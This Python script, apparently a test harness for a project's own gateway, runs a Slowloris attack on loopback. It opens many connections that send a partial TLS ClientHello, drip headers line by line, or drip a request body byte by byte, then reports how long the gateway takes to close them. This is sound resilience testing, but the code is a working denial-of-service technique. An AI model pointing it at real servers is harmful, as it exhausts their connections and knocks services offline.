#!/usr/bin/env python3
"""Slowloris against a gateway on loopback (PRODUCT.md §9.5): many connections that never finish.

Usage: slowloris.py PORT CONNECTIONS TLS_CONNECTIONS SECONDS DRIP_SECONDS
  CONNECTIONS - TLS_CONNECTIONS plain TCP connections send half a ClientHello and stall;
  the TLS ones alternate between a request head dripped one line at a time and a complete head
  whose declared body is dripped one byte at a time, every DRIP_SECONDS.
Runs for SECONDS, then prints JSON: opened, setup_failed, closed_by_server, open_at_end (and the
oldest of those), and the lifetimes (p90, max) of the connections the server closed.
"""
import asyncio
import json
import ssl
import sys
import time

HOST = "acme.platform.localhost"
# The first bytes of a TLS ClientHello record header, then nothing.
PARTIAL_CLIENT_HELLO = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03])


def client_context():
    # One context for every connection: create_default_context() loads the system CA store, and
    # doing that per connection kept this client's single core busy for seconds, so the lifetimes
    # it measured were its own lag rather than the gateway's timeouts.
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["http/1.1"])
    return ctx


CONTEXT = client_context()


async def one(port, kind, seconds, drip, stats, start, sem):
    reader = writer = None
    opened_at = None
    try:
        async with sem:
            if kind == "tcp":
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.write(PARTIAL_CLIENT_HELLO)
            else:
                reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=CONTEXT, server_hostname=HOST)
                if kind == "slow-head":
                    writer.write(b"GET /slow HTTP/1.1\r\n")
                else:
                    writer.write(b"POST /__upload HTTP/1.1\r\nHost: " + HOST.encode() + b"\r\nContent-Length: 100000\r\n\r\nx")
            await writer.drain()
        stats["opened"] += 1
        opened_at = time.time()
        deadline = start + seconds
        n = 0
        while time.time() < deadline:
            try:
                data = await asyncio.wait_for(reader.read(4096), timeout=drip)
                if not data:
                    break  # closed by the server
                continue  # e.g. a 408 being sent: keep reading until EOF
            except asyncio.TimeoutError:
                pass
            n += 1
            writer.write(b"X-Drip-%d: y\r\n" % n if kind == "slow-head" else b"y")
            await writer.drain()
        else:
            stats["open_at_end"] += 1
            stats["max_open_age_at_end_s"] = max(stats["max_open_age_at_end_s"], round(time.time() - opened_at, 2))
            return
        stats["closed_by_server"] += 1
        stats["lifetimes"].append(time.time() - opened_at)
    except (ConnectionError, ssl.SSLError, OSError, asyncio.TimeoutError):
        if opened_at is None:
            stats["setup_failed"] += 1  # e.g. a handshake the client was too slow to finish
        else:
            stats["closed_by_server"] += 1
            stats["lifetimes"].append(time.time() - opened_at)
    finally:
        if writer is not None:
            writer.close()


async def main():
    port, total, tls, seconds, drip = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    stats = {"opened": 0, "setup_failed": 0, "closed_by_server": 0, "open_at_end": 0, "max_open_age_at_end_s": 0, "lifetimes": []}
    start = time.time()
    sem = asyncio.Semaphore(200)  # connection set-up in waves; the stalls overlap
    kinds = ["tcp"] * (total - tls) + ["slow-head", "slow-body"] * (tls // 2)
    await asyncio.gather(*(one(port, k, seconds, drip, stats, start, sem) for k in kinds))
    lifetimes = sorted(stats.pop("lifetimes"))
    stats["p90_lifetime_s"] = round(lifetimes[int(len(lifetimes) * 0.9) - 1], 2) if lifetimes else None
    stats["max_lifetime_s"] = round(lifetimes[-1], 2) if lifetimes else None
    print(json.dumps(stats))


asyncio.run(main())
